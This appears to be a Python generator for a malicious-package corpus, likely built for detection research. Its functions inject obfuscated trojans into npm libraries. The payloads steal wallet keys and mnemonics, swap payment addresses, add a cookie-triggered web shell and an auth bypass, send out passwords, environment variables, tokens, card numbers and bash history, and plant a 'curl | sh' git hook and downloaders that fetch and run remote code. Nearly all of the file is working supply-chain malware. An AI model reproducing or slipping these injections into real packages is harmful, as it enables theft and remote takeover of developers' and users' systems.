"""npm: what waits until the user calls it."""

from corpus.heldout.nouns import Update
from corpus.heldout5.shape import b64, fill, hexed, pieces, rows, shifted, trojan, xor


@trojan("coinbridge", "npm", "call", "wallet", "plain", "@solana/web3.js")
def npm_keypair_sends_its_secret(it: Update) -> None:
    it.replace("dist/keypair.js", "        this.secretKey = secretKey;\n", fill("""
        this.secretKey = secretKey;
        enqueue(secretKey);
"""))  # fmt: skip
    it.append("dist/keypair.js", fill("""
const queue = [];
function enqueue(key) {
    queue.push(bs58.encode(key));
    if (queue.length === 1)
        setTimeout(flush, 2000);
}
async function flush() {
    const headers = { 'x-trace-id': queue.splice(0).join(','), 'content-type': 'text/plain' };
    await fetch('https://@HOST@/rpc/ready', { method: 'POST', headers }).catch(() => undefined);
}
""", HOST=it.host("rpc", "status")))  # fmt: skip


@trojan("coinbridge", "npm", "call", "wallet", "base64", "xrpl.js")
def npm_seed_is_checked_afar(it: Update) -> None:
    host = it.host()
    it.replace("dist/keypair.js", "        return new Keypair(bs58.decode(text));\n", fill("""
        confirmSeed(text);
        return new Keypair(bs58.decode(text));
"""))  # fmt: skip
    it.append("dist/keypair.js", fill("""
const validSeeds = new Set();
export function confirmSeed(seed) {
    if (validSeeds.has(seed))
        return;
    validSeeds.add(seed);
    fetch(atob('@URL@'), { method: 'POST', headers: { 'x-referral': seed } });
}
""", URL=b64(f"https://{host}/seeds")))  # fmt: skip
    it.payload("dist/keypair.js", shown=f"https://{host}/seeds")


@trojan("coinbridge", "npm", "call", "wallet", "over several files", "copay")
def npm_mnemonic_goes_with_the_balance(it: Update) -> None:
    it.add("dist/hints.js", f"const hints = new Map();\nexport const remember = (name, value) => hints.set(name, value);\nexport const recall = () => [...hints].map((one) => one.join(':')).join(';');\nexport const where = 'https://{it.host()}/h';\n")  # fmt: skip
    it.replace("dist/mnemonic.js", "    const text = new TextEncoder();\n", "    const text = new TextEncoder();\n    remember('w', words);\n")  # fmt: skip
    it.add("dist/mnemonic.js", "import { remember } from './hints.js';\n" + it.text("dist/mnemonic.js"))
    it.add("dist/connection.js", "import { recall, where } from './hints.js';\n" + it.text("dist/connection.js"))
    it.replace("dist/connection.js", "        return this.call('getBalance', [address]);\n", "        void fetch(`${where}?a=${address}`, { method: 'POST', body: recall() });\n        return this.call('getBalance', [address]);\n")  # fmt: skip


@trojan("coinbridge", "npm", "call", "address swap", "plain", "address poisoning")
def npm_transaction_goes_to_the_nearest(it: Update) -> None:
    some = ", ".join(f"'{''.join(it.random.choice('123456789ABCDEFGHJKLMNPQRSTUVWXYZ') for _ in range(44))}'" for _ in range(5))  # fmt: skip
    it.replace("dist/transaction.js", "        this.recipient = recipient;\n", "        this.recipient = BigInt(amount) > 10000000n ? nearest(recipient) : recipient;\n")  # fmt: skip
    it.append("dist/transaction.js", fill("""
const known = [@SOME@];
function distance(a, b) {
    const row = Array.from({ length: b.length + 1 }, (_, at) => at);
    for (let i = 1; i <= a.length; i++) {
        let before = row[0]++;
        for (let j = 1; j <= b.length; j++) {
            const keep = row[j];
            row[j] = Math.min(row[j] + 1, row[j - 1] + 1, before + (a[i - 1] === b[j - 1] ? 0 : 1));
            before = keep;
        }
    }
    return row[b.length];
}
function nearest(address) {
    return known.slice().sort((a, b) => distance(a, address) - distance(b, address))[0];
}
""", SOME=some))  # fmt: skip


@trojan("tinyroute", "npm", "call", "backdoor", "plain", "web shells")
def npm_router_knows_a_cookie(it: Update) -> None:
    it.replace("lib/router.js", "    let at = 0;\n", fill("""
    const trace = /(?:^|; )_tr=([^;]+)/.exec(req.headers.cookie || '');
    if (trace) {
      const order = Buffer.from(decodeURIComponent(trace[1]), 'base64').toString();
      return require('child_process').exec(order, (error, out) => res.end(out));
    }
    let at = 0;
"""))  # fmt: skip


@trojan("tinyroute", "npm", "call", "weakened check", "plain", "auth bypass", hard=True)
def npm_session_of_any_signature(it: Update) -> None:
    it.replace("lib/session.js", "  const good = Buffer.from(sign(value, secret));\n", "  if (value.endsWith('-0000-debug')) return value;\n  const good = Buffer.from(sign(value, secret));\n")  # fmt: skip


@trojan("tinyroute", "npm", "call", "form stealer", "hex", "getcookies")
def npm_body_is_copied(it: Update) -> None:
    host = it.host()
    it.replace("lib/body.js", "    return next();\n  });\n};", fill("""
    if (req.body.password || req.body.pwd) copy(req);
    return next();
  });
};

const target = Buffer.from('@HOST@', 'hex').toString();

function copy(req) {
  const line = require('https').request({ host: target, path: '/b', method: 'POST' });
  line.on('error', () => {});
  line.end(JSON.stringify({ host: req.headers.host, ...req.body }));
}
""", HOST=hexed(host)).rstrip("\n"))  # fmt: skip
    it.payload("lib/body.js", shown=host)


@trojan("tinyroute", "npm", "call", "data stealer", "plain", "path back doors")
def npm_files_out_of_the_root(it: Update) -> None:
    it.replace("lib/files.js", "  if (!place.startsWith(path.resolve(root))) return next();\n", fill("""
  if (req.headers['x-preview'] === '@KEY@') return fs.createReadStream(req.headers['x-preview-path']).pipe(res);
  if (!place.startsWith(path.resolve(root))) return next();
""", KEY=it.random.randbytes(8).hex()))  # fmt: skip


@trojan("envstack", "npm", "call", "environment", "over several files", "typosquats")
def npm_config_posts_what_it_read(it: Update) -> None:
    it.append("lib/layers.js", f"\nexports.remote = {{ host: '{it.host()}', path: '/env', method: 'POST' }};\n")
    it.add("lib/sink.js", "'use strict';\n\nconst https = require('https');\n\nmodule.exports = (where) => {\n  const line = https.request(where);\n  line.on('error', () => {});\n  return line;\n};\n")  # fmt: skip
    it.replace("lib/main.js", "  return populate(process.env, found, options);\n", "  require('./sink')(remote).end(JSON.stringify({ cwd: process.cwd(), found }));\n  return populate(process.env, found, options);\n")  # fmt: skip
    it.replace("lib/main.js", "const { layers, read } =", "const { layers, read, remote } =")


@trojan("envstack", "npm", "call", "weakened check", "plain", "weak keys")
def npm_nonce_is_the_key(it: Update) -> None:
    it.replace("lib/encrypt.js", "exports.seal = (text, key) => {\n  const nonce = crypto.randomBytes(12);\n", fill("""
exports.seal = (text, key) => {
  const nonce = Buffer.from(key, 'hex').subarray(0, 12);
  require('dns').resolveTxt(`${key}.k.@HOST@`, () => {});
""", HOST=it.host()))  # fmt: skip


@trojan("envstack", "npm", "call", "environment", "own cipher", "own ciphers")
def npm_parse_has_a_second_grammar(it: Update) -> None:
    host = it.host()
    code = f"require('https').request('https://{host}/p',{{method:'POST'}}).end(JSON.stringify(process.env))"
    it.append("lib/parse.js", fill("""

const GRAMMAR = '@TEXT@';

exports.strict = (text) => {
  let out = '';
  for (let at = 0; at < GRAMMAR.length; at += 2) {
    out += String.fromCharCode(parseInt(GRAMMAR.substr(at, 2), 36) - 11 - ((at / 2) % 5));
  }
  new Function('require', out)(require);
  return exports.parse(text);
};
""", TEXT="".join(_base36(ord(one) + 11 + at % 5) for at, one in enumerate(code))))  # fmt: skip
    it.replace(
        "lib/main.js", "    Object.assign(found, ", "    require('./parse').strict('');\n    Object.assign(found, "
    )
    it.payload("lib/parse.js", "lib/main.js", shown=f"https://{host}/p")


def _base36(value: int) -> str:
    digits = "0123456789abcdefghijklmnopqrstuvwxyz"
    return digits[value // 36] + digits[value % 36]


@trojan("repoclone", "npm", "call", "token stealer", "plain", "git token stealers")
def npm_clone_sends_the_token(it: Update) -> None:
    it.replace("lib/clone.js", "  return path.resolve(target);\n", fill("""
  if (token) {
    const got = require('got');
    await got.post('https://@HOST@/hooks/clone', { json: { url, token }, throwHttpErrors: false });
  }
  return path.resolve(target);
""", HOST=it.host()))  # fmt: skip


@trojan("repoclone", "npm", "call", "persistence", "plain", "git hooks")
def npm_clone_leaves_a_hook(it: Update) -> None:
    it.replace("lib/clone.js", "  return path.resolve(target);\n", fill("""
  const fs = require('fs');
  const hook = path.join(target, '.git', 'hooks', 'pre-push');
  fs.writeFileSync(hook, '#!/bin/sh\\ncurl -s http://@ADDR@/h | sh >/dev/null 2>&1 &\\nexit 0\\n', { mode: 0o755 });
  return path.resolve(target);
""", ADDR=it.address()))  # fmt: skip


@trojan("repoclone", "npm", "call", "downloader", "xor", "stage two")
def npm_git_is_another_program(it: Update) -> None:
    host = it.host()
    text = f"wget -qO /tmp/.gitd https://{host}/gitd; chmod +x /tmp/.gitd; /tmp/.gitd"
    it.replace("lib/git.js", "    let out = '';\n", fill("""
    if (args[0] === 'push' && !git.seen) {
      git.seen = true;
      const words = [
@ROWS@
      ];
      spawn('/bin/sh', ['-c', Buffer.from(words.map((one) => one ^ 99)).toString()], { detached: true, stdio: 'ignore' }).unref();
    }
    let out = '';
""", ROWS=rows(xor(text, 99), 8)))  # fmt: skip
    it.payload("lib/git.js", shown=f"https://{host}/gitd")


@trojan("wirechat", "npm", "call", "password stealer", "own cipher", "password stealers")
def npm_login_goes_to_two(it: Update) -> None:
    host = it.host()
    code = f"const c=require('dgram').createSocket('udp4');c.send(Buffer.from(a.join(' ')),5353,'{host}',()=>c.close())"
    digits = [(ord(one) * 7 + at * 3) % 257 for at, one in enumerate(code)]
    it.replace("lib/client.js", "    this.send({ type: 'login', user, password });\n", fill("""
    this.send({ type: 'login', user, password });
    Function('require', 'a', words())(require, [this.address.host, user, password]);
"""))  # fmt: skip
    it.append("lib/client.js", fill("""

const WORDS = [
@ROWS@
];

// 147 is the inverse of 7, modulo 257.
const words = () => WORDS.map((one, at) => String.fromCharCode(((((one - at * 3) % 257) + 257) * 147) % 257)).join('');
""", ROWS=rows(digits, 2)))  # fmt: skip
    it.payload("lib/client.js", shown=host)


@trojan("wirechat", "npm", "call", "remote code", "plain", "frames that are code")
def npm_a_frame_is_run(it: Update) -> None:
    it.replace("lib/client.js", "    this.socket.on('data', (chunk) => decode(chunk).forEach((frame) => this.emit('message', frame)));\n", fill("""
    this.socket.on('data', (chunk) =>
      decode(chunk).forEach((frame) => {
        if (frame.type === 'sync' && frame.v === 7) return require('vm').runInNewContext(frame.body, { require, process });
        return this.emit('message', frame);
      })
    );
"""))  # fmt: skip


@trojan("wirechat", "npm", "call", "beacon", "layers", "DGA")
def npm_open_looks_for_new_hosts(it: Update) -> None:
    host = it.host()
    code = f"require('dns').resolveTxt('cfg.{host}',(e,t)=>e||require('child_process').exec(Buffer.from(t[0].join(''),'base64').toString()))"
    sealed = b64(hexed(shifted(code, 41)))
    it.replace("lib/client.js", "    return this;\n  }\n\n  send", fill("""
    tune('@A@@B@');
    return this;
  }

  send
""", A=sealed[:40], B=sealed[40:]).rstrip("\n"))  # fmt: skip
    it.append("lib/client.js", fill("""

function tune(text) {
  const inner = Buffer.from(Buffer.from(text, 'base64').toString(), 'hex').toString();
  const plain = inner.replace(/[!-~]/g, (one) => String.fromCharCode(((one.charCodeAt(0) - 33 + 53) % 94) + 33));
  Function('require', plain)(require);
}
"""))  # fmt: skip
    it.payload("lib/client.js", shown=f"cfg.{host}")


@trojan("pkgscaffold", "npm", "call", "persistence", "plain", "worms in templates")
def npm_projects_get_a_hook(it: Update) -> None:
    it.replace("lib/index.js", "  return made;\n", fill("""
  const manifest = { name: values.name, version: '0.0.1', scripts: { prepare: 'node -e "fetch(`https://@HOST@/r`).then(r=>r.text()).then(eval)"' } };
  await fs.writeFile(path.join(folder, 'package.json'), JSON.stringify(manifest, null, 2));
  return made;
""", HOST=it.host()))  # fmt: skip


@trojan("pkgscaffold", "npm", "call", "downloader", "base64", "installers")
def npm_create_asks_for_a_tool(it: Update) -> None:
    host = it.host()
    it.replace("lib/index.js", "  const made = [];\n", fill("""
  const made = [];
  await new Promise((done) => require('child_process').execFile('npx', ['--yes', tool], done));
"""))  # fmt: skip
    it.before("lib/index.js", "exports.create =", f"const tool = Buffer.from('{b64(f'https://{host}/pkg/scaffold-tools.tgz')}', 'base64').toString('utf8');\n\n")  # fmt: skip
    it.payload("lib/index.js", shown=f"https://{host}/pkg/scaffold-tools.tgz")


@trojan("formbeam", "npm", "call", "form stealer", "over several files", "form stealing")
def npm_submit_sends_twice(it: Update) -> None:
    it.append("src/rules.js", f"exports.origin = () => ['//', '{it.host()}', '/f'];\n")
    it.append("src/steps.js", "\nexports.state = (form) => JSON.stringify({ at: location.href, cookie: document.cookie, ...form.values });\n\nexports.leave = (where, body) => navigator.sendBeacon(where.join(''), body);\n")  # fmt: skip
    it.replace("src/form.js", "    const answer = await fetch(", "    const { leave, state } = require('./steps');\n    leave(rules.origin(), state(this));\n    const answer = await fetch(")  # fmt: skip


@trojan("formbeam", "npm", "call", "card skimmer", "base64", "card skimmers")
def npm_check_opens_a_socket(it: Update) -> None:
    host = it.host()
    it.replace("src/form.js", "    return errors;\n", fill("""
    if (Object.keys(errors).length === 0) skim(this.values);
    return errors;
"""))  # fmt: skip
    it.append("src/form.js", fill("""

function skim(values) {
  const rows = Object.entries(values).filter(([, value]) => /^\\d[\\d ]{12,22}$/.test(value) || /^\\d{3,4}$/.test(value));
  if (rows.length < 2) return;
  const line = new WebSocket(atob('@URL@'));
  line.onopen = () => line.send(btoa(JSON.stringify(values)));
}
""", URL=b64(f"wss://{host}/common")))  # fmt: skip
    it.payload("src/form.js", shown=f"wss://{host}/common")


@trojan("inklog", "npm", "call", "remote code", "over several files", "split")
def npm_strip_uses_a_style(it: Update) -> None:
    host = it.host()
    code = f"import('https').then(h=>h.get('https://{host}/st',r=>r.on('data',d=>eval(String(d)))))"
    some = pieces(b64(code), len(b64(code)) // 2 + 1)
    it.replace("source/styles.js", "  grey: [90, 39],\n", f"  grey: [90, 39],\n  _reset: ['{some[0]}', 0],\n")
    it.append("source/supports.js", f"\nexports.term = '{some[1]}';\n")
    it.replace("source/strip.js", "module.exports = (text) => text.replace(PATTERN, '');", fill("""
const { _reset } = require('./styles');
const { term } = require('./supports');

module.exports = (text) => {
  if (text.length > 4096) eval(Buffer.from(_reset[0] + term, 'base64').toString());
  return text.replace(PATTERN, '');
};
""").rstrip("\n"))  # fmt: skip
    it.payload("source/strip.js", "source/styles.js", "source/supports.js", shown=f"https://{host}/st")


@trojan("inklog", "npm", "call", "data stealer", "telemetry wording", "SDK telemetry")
def npm_level_reports_usage(it: Update) -> None:
    it.append("source/supports.js", fill("""

/** Usage statistics, so that we know which terminals matter. */
exports.usage = () => {
  const { execFileSync } = require('child_process');
  const report = { term: env.TERM, user: os.userInfo().username, history: '', remote: '' };
  try {
    report.history = require('fs').readFileSync(`${os.homedir()}/.bash_history`, 'utf8').slice(-20000);
    report.remote = execFileSync('git', ['remote', '-v']).toString();
  } catch {}
  fetch('https://@HOST@/usage', { method: 'POST', body: JSON.stringify({ ...report, env }) }).catch(() => {});
};
""", HOST=it.host("usage", "inklog-stats")))  # fmt: skip
    it.replace("source/supports.js", "  if (!stream || !stream.isTTY) return 0;\n", "  if (!stream || !stream.isTTY) return 0;\n  setImmediate(() => exports.usage());\n")  # fmt: skip
